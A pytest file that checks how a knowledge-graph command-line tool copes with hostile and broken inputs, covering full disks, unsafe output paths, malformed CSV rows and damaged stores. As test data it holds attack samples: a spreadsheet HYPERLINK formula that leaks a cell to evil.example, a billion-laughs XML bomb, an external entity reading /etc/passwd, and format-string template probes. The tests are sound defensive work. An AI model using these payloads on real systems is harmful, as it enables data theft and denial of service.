"""Hostile and broken inputs: one line instead of a traceback, a bad row costing only that row, output
paths that cannot replace what they must not, spreadsheet cells that never run as formulas, and a full disk
that leaves the published state as it was."""

from __future__ import annotations

import csv
import errno
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kgforge.core.errors import ArgumentError, KgforgeError, describe_os_error, is_disk_full
from kgforge.core.files import atomic_write
from kgforge.core.output import safe_output_path
from kgforge.core.text import spreadsheet_cell, spreadsheet_text
from kgforge.sources.tables import ends_in_quoted_cell
from tests.readers import read_source

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def one_error_line(result: subprocess.CompletedProcess) -> str:
    assert "Traceback" not in result.stderr, result.stderr
    lines = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(lines) == 1, result.stderr
    return lines[0]


# ---------------------------------------------------------------- one line, never a traceback


@pytest.mark.slow  # every command run on a missing file
def test_missing_input_files_are_one_line_naming_them(tmp_path, workdir, cli):
    export = cli(
        "export",
        "travel",
        "--dialogues",
        str(tmp_path / "nope.json"),
        "--format",
        "kdconv",
        "--out",
        str(tmp_path / "x.json"),
        "--workdir",
        str(workdir),
        check=False,
    )
    assert export.returncode == 1
    assert "nope.json: No such file or directory" in one_error_line(export)
    init = cli("init", "foo", "--from", str(tmp_path / "nope.csv"), "--workdir", str(workdir), check=False)
    assert init.returncode == 1
    assert "nope.csv: No such file or directory" in one_error_line(init)


def test_a_header_cell_that_is_not_an_iri_names_the_file_line_and_column(tmp_path, workdir, cli):
    table = tmp_path / "bad.csv"
    table.write_text("id,<a b>,name\nhttp://e.org/1,x,y\n", encoding="utf-8")
    result = cli("init", "foo", "--from", str(table), "--workdir", str(workdir), check=False)
    assert result.returncode == 1
    assert f"{table}: line 1: column '<a b>'" in one_error_line(result)


def test_sheet_is_refused_for_real_dialogues_with_what_it_is_for():
    from kgforge.exports.registry import dialogue_layouts, format_named

    kdconv = format_named("kdconv")
    with pytest.raises(KgforgeError, match="not as sheet .sheet is for new goals"):
        dialogue_layouts(format_named("sheet"), kdconv, kdconv.layouts[0], None)
    assert not format_named("sheet").writes_dialogues and format_named("jsonl").writes_dialogues


def test_importing_the_command_line_loads_nothing_a_ctrl_c_could_interrupt_outside_main():
    probe = "import sys, kgforge.cli; print(sorted(m for m in ('typer', 'rich', 'kgforge.api') if m in sys.modules))"
    loaded = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True).stdout
    assert loaded.strip() == "[]"


def test_ctrl_c_while_the_commands_load_is_one_line(monkeypatch, capsys):
    import kgforge.cli._main as cli_module

    def interrupted() -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(cli_module, "_command", interrupted)
    with pytest.raises(SystemExit) as stopped:
        cli_module.main()
    assert stopped.value.code == 130
    assert capsys.readouterr().err == "interrupted while starting: nothing was run\n"


# ---------------------------------------------------------------- a full disk


def test_a_full_disk_is_recognised_through_any_library_wrapping():
    assert is_disk_full(OSError(errno.ENOSPC, "No space left on device", "out.nq.part12.34"))
    assert is_disk_full(OSError("IO error: No space left on device: While appending to file: 000033.sst"))
    try:  # torch raises a RuntimeError while handling the OSError
        try:
            raise OSError(errno.ENOSPC, "No space left on device")
        except OSError:
            raise RuntimeError("[enforce fail at inline_container.cc:672] . unexpected pos") from None
    except RuntimeError as wrapped:
        wrapped.__context__ = OSError(errno.ENOSPC, "No space left on device")
        assert is_disk_full(wrapped)
    import sqlite3

    assert is_disk_full(sqlite3.OperationalError("database or disk is full"))  # the crawl frontier
    assert not is_disk_full(OSError(errno.EACCES, "Permission denied"))
    message = describe_os_error(OSError(errno.ENOSPC, "No space left on device", "out.nq.part12.34"))
    assert message.startswith("no space left on device writing out.nq:") and "rerun the same command" in message


def test_a_write_that_fails_leaves_the_old_file_and_no_temporary_one(tmp_path):
    target = tmp_path / "goals.jsonl"
    target.write_text("old\n")
    with pytest.raises(OSError), atomic_write(target) as out:
        out.write("new\n")
        raise OSError(errno.ENOSPC, "No space left on device")
    assert target.read_text() == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["goals.jsonl"]


@pytest.fixture
def small_disk(tmp_path):
    """A 20 MB tmpfs (root only: skipped elsewhere, where the unit tests above still run)."""
    mount = tmp_path / "disk"
    mount.mkdir()
    if (
        os.geteuid() != 0
        or subprocess.run(
            ["mount", "-t", "tmpfs", "-o", "size=20m", "tmpfs", str(mount)], capture_output=True
        ).returncode
        != 0
    ):
        pytest.skip("mounting a tmpfs needs root")
    yield mount
    subprocess.run(["umount", "-l", str(mount)], check=False)


def fill(disk: Path, leave_kb: int) -> Path:
    filler = disk / "filler"
    free_kb = os.statvfs(disk).f_bavail * os.statvfs(disk).f_frsize // 1024
    with open(filler, "wb") as out:
        out.truncate(0)
        os.posix_fallocate(out.fileno(), 0, max(free_kb - leave_kb, 1) * 1024)
    return filler


@pytest.mark.slow  # fills a small filesystem during an export and a rebuild
def test_a_full_disk_ends_export_rdf_and_a_rebuild_in_one_line_and_keeps_the_published_build(small_disk, cli):
    workdir = small_disk / "kg"
    table = small_disk / "books.csv"
    table.write_text(
        "id,name,author\n" + "".join(f"http://e.org/b{i},Book {i},Author {i % 50}\n" for i in range(3000)),
        encoding="utf-8",
    )
    cli("build", "books", "--source", f"csv:{table}", "--workdir", str(workdir))
    count = "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }"
    before = cli("query", "books", count, "--format", "csv", "--workdir", str(workdir)).stdout
    filler = fill(small_disk, 64)
    for args in (
        ("export-rdf", "books", "--format", "nq", "--out", str(small_disk / "all.nq")),
        ("build", "books", "--source", f"csv:{table}", "--full"),
    ):  # unchanged sources: --full rewrites them
        result = cli(*args, "--workdir", str(workdir), check=False)
        assert result.returncode == 1
        assert "no space left on device" in one_error_line(result)
    assert not list(small_disk.glob("all.nq*"))
    filler.unlink()
    assert cli("check", "books", "--workdir", str(workdir)).returncode == 0
    assert cli("query", "books", count, "--format", "csv", "--workdir", str(workdir)).stdout == before
    cli("export-rdf", "books", "--format", "nq", "--out", str(small_disk / "all.nq"), "--workdir", str(workdir))
    assert (small_disk / "all.nq").stat().st_size > 0


# ---------------------------------------------------------------- --out


def test_out_is_a_new_path_or_a_regular_file_outside_the_domains_own_files(tmp_path):
    domain = tmp_path / "kg" / "travel"
    (domain / "builds" / "b1").mkdir(parents=True)
    (domain / "builds" / "b1" / "manifest.json").write_text("{}")
    (domain / "store").symlink_to("builds/b1")
    (domain / "manifest.json").symlink_to("store/manifest.json")
    (domain / "exports").mkdir()
    with pytest.raises(ArgumentError, match="not a regular file"):
        safe_output_path("/dev/full")
    with pytest.raises(ArgumentError, match="symbolic link"):
        safe_output_path(domain / "manifest.json")
    with pytest.raises(ArgumentError, match="is a directory"):
        safe_output_path(tmp_path)
    with pytest.raises(ArgumentError, match="kgforge manages itself"):
        safe_output_path(domain / "store" / "x.nq", managed=domain, allowed=(domain / "exports",))
    assert safe_output_path(domain / "exports" / "x.jsonl", managed=domain, allowed=(domain / "exports",))
    assert safe_output_path(tmp_path / "new.jsonl") == tmp_path / "new.jsonl"


def test_export_never_replaces_a_device_or_the_domains_manifest(shared, tmp_path, workdir, cli):
    cli("build", "travel", "--source", f"kdconv:{shared('kdconv/travel/kb_travel.json')}", "--workdir", str(workdir))
    manifest = workdir / "travel" / "manifest.json"
    for out in ("/dev/full", str(manifest), str(tmp_path)):
        result = cli("export-rdf", "travel", "--format", "nq", "--out", out, "--workdir", str(workdir), check=False)
        assert result.returncode == 2  # a bad argument (kgforge.core.output)
        assert "--out" in one_error_line(result)
    assert Path("/dev/full").is_char_device()
    assert manifest.is_symlink()


# ---------------------------------------------------------------- spreadsheets


@given(st.text())
def test_a_spreadsheet_cell_never_starts_a_formula_and_reads_back_exactly(value):
    cell = spreadsheet_cell(value)
    assert spreadsheet_text(cell) == value
    if cell.startswith(FORMULA_STARTS):  # only a plain number may still start with + or -
        assert float(cell) == float(value)


def test_a_formula_label_reaches_the_sheet_as_text_and_reads_back(tmp_path):
    from kgforge.exports.formats.sheet import COLUMNS, CSV, Sheet, read_sheet

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    record = {column: "" for column in COLUMNS} | {
        "dialogue_id": "d1",
        "topic_a": evil,
        "topic_b": "@SUM(1)",
        "goal": "[]",
        "knowledge": "[]",
        "goal_text": "-2+3",
    }
    Sheet().write([record], tmp_path / "sheet.csv", CSV)
    with open(tmp_path / "sheet.csv", encoding="utf-8", newline="") as handle:
        row = next(csv.DictReader(handle))
    assert row["topic_a"] == "'" + evil and row["topic_b"] == "'@SUM(1)" and row["goal_text"] == "'-2+3"
    back = read_sheet(tmp_path / "sheet.csv", CSV)[0]
    assert (back["topic_a"], back["topic_b"], back["goal_text"]) == (evil, "@SUM(1)", "-2+3")


# ---------------------------------------------------------------- CSV rows


cells = st.text(alphabet='ab",\n', max_size=6)


@settings(max_examples=300, deadline=None)
@given(st.lists(cells, min_size=1, max_size=4))
def test_a_row_ends_inside_a_quoted_cell_exactly_when_pythons_csv_reader_says_so(row):
    text = ",".join(row) + "\n"
    try:  # one more line: a new row of its own, unless the text left a quoted cell open
        python_open = list(csv.reader(io.StringIO(text + "q\n")))[-1] != ["q"]
    except csv.Error:  # the end of the data inside a quoted cell
        python_open = True
    assert ends_in_quoted_cell(text, ",") == python_open


def test_a_stray_quote_in_an_unquoted_cell_is_read_as_pythons_csv_reads_it(tmp_path):
    data = b'id,name,author\nhttp://e.org/1,a"b,x\nhttp://e.org/2,c,y\nhttp://e.org/3,"d"e,z\nhttp://e.org/4,f,w\n'
    outcome = read_source("csv", data, tmp_path, "books.csv")
    assert any('"a\\"b"' in quad for quad in outcome.quads)  # the quote is part of the name, as csv reads it
    assert any('"f"' in quad for quad in outcome.quads)
    assert [entry["location"] for entry in outcome.quarantined] == ["line 4"]


def test_duplicate_ids_of_an_entity_table_are_quarantined_naming_the_first(tmp_path):
    data = b"id,name,author\nhttp://e.org/1,a,x\nhttp://e.org/2,c,y\nhttp://e.org/1,d,z\n"
    outcome = read_source("csv", data, tmp_path, "books.csv")
    assert [(e["location"], e["reason"]) for e in outcome.quarantined] == [
        ("line 4", "duplicate id 'http://e.org/1': line 2 has the same id (the first one is kept)")
    ]
    assert not any('"d"' in quad for quad in outcome.quads)


# ---------------------------------------------------------------- hostile files


LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rdf:RDF [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
]>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/">
  <rdf:Description rdf:about="http://example.org/a"><ex:p>&lol2;</ex:p></rdf:Description>
</rdf:RDF>
"""


def rdf_xml(doctype: bytes, body: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [\n' + doctype + b"\n]>\n"
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/">\n'
        + body
        + b"\n</rdf:RDF>\n"
    )


def test_nested_xml_entities_are_refused_before_the_parser_expands_them(tmp_path):
    outcome = read_source("rdf", LAUGHS, tmp_path, "laughs.rdf")
    assert outcome.error is not None and "laughs.rdf: line 4: the DOCTYPE's entity 'lol1'" in outcome.error
    assert "billion laughs" in outcome.error and not outcome.quads


@pytest.mark.parametrize(
    "declaration, refused",
    [
        (b'<!ENTITY x SYSTEM "file:///etc/passwd">', "external entity"),
        (b'<!ENTITY % p "x">', "parameter or external"),
    ],
)
def test_external_and_parameter_entities_are_refused(tmp_path, declaration, refused):
    outcome = read_source("rdf", rdf_xml(declaration), tmp_path, "x.rdf")
    assert outcome.error is not None and refused in outcome.error


def test_plain_namespace_entities_of_owl_files_still_read(tmp_path):
    data = rdf_xml(
        b'<!ENTITY ex "http://example.org/">',
        b'<rdf:Description rdf:about="&ex;a"><ex:name>A &amp; B</ex:name></rdf:Description>',
    )
    outcome = read_source("rdf", data, tmp_path, "ok.rdf")
    assert outcome.error is None
    assert any(quad.startswith("<http://example.org/a>") and '"A & B"' in quad for quad in outcome.quads)


def test_entity_references_that_expand_past_the_cap_are_refused(tmp_path, monkeypatch):
    import kgforge.sources.rdf as rdf

    monkeypatch.setattr(rdf, "MAX_ENTITY_EXPANSION", 1000)
    data = rdf_xml(
        b'<!ENTITY big "' + b"x" * 100 + b'">',
        b'<rdf:Description rdf:about="http://example.org/a"><ex:p>' + b"&big;" * 20 + b"</ex:p></rdf:Description>",
    )
    outcome = read_source("rdf", data, tmp_path, "big.rdf")
    assert outcome.error is not None and "would add more than" in outcome.error


def test_one_kdconv_entry_nested_200000_deep_costs_only_that_entry(shared, tmp_path):
    import json

    kb = json.loads(shared("kdconv/travel/kb_travel.json").read_text(encoding="utf-8"))
    members = [f"{json.dumps(k, ensure_ascii=False)}: {json.dumps(v, ensure_ascii=False)}" for k, v in kb.items()]
    members.insert(5, '"deep": ' + "[" * 200_000 + "]" * 200_000)
    data = ("{\n" + ",\n".join(members) + "\n}\n").encode("utf-8")
    outcome = read_source("kdconv", data, tmp_path, "kb_travel.json")
    assert outcome.counts["records_ok"] == len(kb)
    assert [(e["location"], e["reason"]) for e in outcome.quarantined] == [
        ("line 7", "nested more than 100 levels deep")
    ]


def test_dumps_bytes_keeps_hostile_text_as_data():
    import json

    from kgforge.core.jsonio import dumps_bytes

    record = {"message": "bad \ud800 surrogate \x00 nul \x1b esc", "big": 2**70, "long": "x" * 5_000_000}
    encoded = dumps_bytes(record)
    assert json.loads(encoded) == record
    assert b"\\ud800" in encoded and b"\\u0000" in encoded


@pytest.mark.slow  # exports and reads back a 5 MB utterance
def test_export_of_dialogues_with_nul_esc_and_5_mb_writes_them_back_and_a_lone_surrogate_is_refused(
    shared, tmp_path, workdir, cli
):
    import json

    cli("build", "travel", "--source", f"kdconv:{shared('kdconv/travel/kb_travel.json')}", "--workdir", str(workdir))
    dialogues = json.loads(shared("kdconv/travel/dev.json").read_text(encoding="utf-8"))[:3]
    dialogues[0]["messages"][0]["message"] = "bad \ud800 surrogate \x00 nul \x1b esc"
    dialogues[1]["messages"][0]["message"] = "x" * 5_000_000
    source = tmp_path / "dev.json"
    source.write_text(json.dumps(dialogues, ensure_ascii=True), encoding="ascii")
    export = ("export", "travel", "--dialogues", str(source), "--format", "kdconv", "--workdir", str(workdir))
    # a lone surrogate is text no writer can encode (polars, OpenCC, the output): refused where it is read ...
    done = cli(*export, "--out", str(tmp_path / "refused.json"), check=False)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert f"{source}:1: lone surrogate \\ud800 in messages[0].message" in done.stderr
    # ... or replaced with U+FFFD, counted; NUL, ESC and 5 MB are text, written back exactly as read
    for extra in ((), ("--skip-invalid",)):
        out = tmp_path / f"out{len(extra)}.json"
        done = cli(*export, "--out", str(out), "--replace-invalid", *extra)
        assert "1 lone surrogate replaced with U+FFFD" in done.stderr
        written = json.loads(out.read_text(encoding="utf-8"))
        assert written[0]["messages"][0]["message"] == "bad \ufffd surrogate \x00 nul \x1b esc"
        assert len(written[1]["messages"][0]["message"]) == 5_000_000


# ---------------------------------------------------------------- queries and the store


def test_a_query_file_is_read_up_to_its_cap(tmp_path):
    from kgforge.core.errors import QueryError
    from kgforge.store.query import MAX_QUERY_FILE_BYTES, read_query_file

    with pytest.raises(QueryError, match="/dev/zero: larger than 1 MiB"):
        read_query_file(Path("/dev/zero"))
    assert MAX_QUERY_FILE_BYTES == 1 << 20


def test_an_escape_rdflib_cannot_expand_is_a_syntax_error_not_a_crash():
    from kgforge.store.query import uses_service

    assert uses_service('SELECT * WHERE { ?s ?p "\\U00110000" }') is False
    assert uses_service('SELECT * WHERE { SERVICE <http://x.example/> { ?s ?p "\\U00110000" } }') is True


def test_a_damaged_store_is_one_line_with_the_command_that_rebuilds_it(tmp_path, workdir, cli):
    table = tmp_path / "books.csv"
    table.write_text("id,name,author\nhttp://e.org/b1,Book,Ann\n", encoding="utf-8")
    cli("build", "books", "--source", f"csv:{table}", "--workdir", str(workdir))
    for sst in (workdir / "books" / "store" / "oxigraph").glob("*.sst"):
        data = bytearray(sst.read_bytes())
        for i in range(64, len(data) - 64, 97):
            data[i] ^= 0xFF
        sst.write_bytes(bytes(data))
    for args in (("check", "books"), ("query", "books", "SELECT * WHERE { ?s ?p ?o }"), ("derive", "books")):
        result = cli(*args, "--workdir", str(workdir), check=False)
        assert result.returncode == 1
        line = one_error_line(result)
        assert "the store of domain 'books' is damaged" in line
        assert f"rebuild it with `kgforge build books --source csv:{table}`" in line


# ---------------------------------------------------------------- LLM templates, preflights, eval inputs


@pytest.mark.parametrize(
    "text", ["{subject:>60000000}的{predicate}", "{ref:d}", "{x.__class__}", "{subject[0]}", "{subject!r}的{predicate}"]
)
def test_templates_take_bare_placeholder_names_only(text):
    from kgforge.qa.templates import check_template

    assert "is not a bare placeholder name" in check_template(text, "simple", "name", "*")


def test_a_bundled_template_still_passes():
    from kgforge.qa.templates import check_template

    assert check_template("{subject}的{predicate}是{wh}？", "simple", "name", "*") is None


def test_the_embedding_preflight_refuses_a_huge_dimension_without_allocating_it():
    import resource

    import torch

    from kgforge.embed.config import EmbedConfig, EmbedError
    from kgforge.embed.train import memory_preflight

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(EmbedError, match="dim 1000000000 .* needs about"):
        memory_preflight(EmbedConfig(dim=1_000_000_000).resolved(torch.device("cpu")), 1396, 30, torch.device("cpu"))
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 512 * 1024  # KiB: under 512 MiB


def test_the_preflight_extrapolates_what_a_full_probe_measures():
    import torch

    from kgforge.embed.config import EmbedConfig
    from kgforge.embed.train import memory_preflight

    for model in ("RotatE", "TransR"):
        config = EmbedConfig(model=model, dim=96).resolved(torch.device("cpu"))
        small = memory_preflight(config, 1000, 20, torch.device("cpu"))
        from kgforge.embed import train

        sizes = train._probe_sizes(config, 96)  # the probe at the asked dimension itself
        exact = (1000 * sizes[1] + 20 * sizes[2]) * 4
        assert small.parameters_bytes == exact, model


def test_eval_names_the_line_of_a_bad_byte_and_of_a_ragged_row(tmp_path):
    from kgforge.core.errors import InputError
    from kgforge.evaluation.correlation import read_human
    from kgforge.evaluation.inputs import load_responses

    for name, data in (("p.txt", b"hello\nok\nwor\xffld\nfine\n"), ("p.csv", b"response\nhello\nwor\xffld\n")):
        path = tmp_path / name
        path.write_bytes(data)
        with pytest.raises(InputError, match=f"{name}:3: not UTF-8"):
            load_responses(path, path, None, "auto", {})
    human = tmp_path / "human.csv"
    human.write_text("id,score\n1,2\n2,3,4\n", encoding="utf-8")
    with pytest.raises(InputError, match="human.csv:3: 2 columns in the header but 3 cells"):
        read_human(human, ["1", "2"])


def test_stats_plot_into_a_folder_that_cannot_exist_is_one_line(workdir, cli, tmp_path):
    table = tmp_path / "books.csv"
    table.write_text("id,name,author\nhttp://e.org/b1,Book,Ann\n", encoding="utf-8")
    cli("build", "books", "--source", f"csv:{table}", "--workdir", str(workdir))
    result = cli("stats", "books", "--plot", "/proc/nonexistent/dir", "--workdir", str(workdir), check=False)
    assert result.returncode == 1 and "/proc/nonexistent" in one_error_line(result)


def test_init_out_onto_an_unwritable_path_is_one_line(tmp_path, workdir, cli):
    table = tmp_path / "books.csv"
    table.write_text("id,name,author\nhttp://e.org/b1,Book,Ann\n", encoding="utf-8")
    for out in ("/proc/nonexistent/schema.toml", "/proc/version"):
        result = cli("init", "books", "--from", str(table), "--out", out, "--workdir", str(workdir), check=False)
        assert result.returncode == 1, result.stderr
        one_error_line(result)


def test_query_csv_writes_a_formula_label_as_text(tmp_path, workdir, cli):
    table = tmp_path / "books.csv"
    table.write_text(
        'id,name,year\nhttp://e.org/b1,"=HYPERLINK(""http://evil.example/"",""x"")",-3\n', encoding="utf-8"
    )
    cli("build", "books", "--source", f"csv:{table}", "--workdir", str(workdir))
    out = cli(
        "query",
        "books",
        "SELECT ?name ?year WHERE { <http://e.org/b1> rdfs:label ?name ; kgr:year ?year }",
        "--format",
        "csv",
        "--workdir",
        str(workdir),
    ).stdout
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[1] == ['\'=HYPERLINK("http://evil.example/","x")', "-3"]
